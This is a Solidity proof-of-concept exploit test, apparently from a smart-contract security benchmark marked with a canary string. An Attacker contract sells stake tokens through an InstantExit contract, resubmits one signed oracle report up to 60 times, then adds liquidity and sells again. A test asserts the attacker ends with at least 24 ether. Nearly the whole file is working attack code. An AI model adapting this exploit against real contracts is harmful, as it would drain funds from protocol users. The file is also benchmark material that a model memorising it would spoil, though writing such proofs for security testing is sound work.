// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3f1c9a52-6be0-4d77-8a14-c95e20b7d6fa
import "../Base.sol";

contract Attacker {
    function run(
        StakeToken token,
        InstantExit exit,
        ReportOracle oracle,
        IReports.Report calldata report,
        bytes[] calldata signatures
    ) external {
        token.approve(address(exit), type(uint256).max);
        exit.sell(0.5 ether, 0);
        for (uint256 i = 0; i < 60; i++) {
            try oracle.submit(report, signatures) {} catch {
                break;
            }
        }
        for (uint256 i = 0; i < 2; i++) {
            exit.addLiquidity{value: 0.001 ether}();
            try exit.sell(5.5 ether, 0) {} catch {}
        }
    }

    receive() external payable {}
}

contract Proof is Base {
    Attacker private other;
    bytes[] private signatures;

    function _start() internal override {
        other = new Attacker();
        token.transfer(address(other), 11.5 ether);
        signatures = _signed(_report(3, 13 ether, 0));
    }

    function exploit() public {
        other.run(token, exit, oracle, _report(3, 13 ether, 0), signatures);
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 24 ether, "no gain");
    }

    function target() public view override returns (address) {
        return address(exit);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
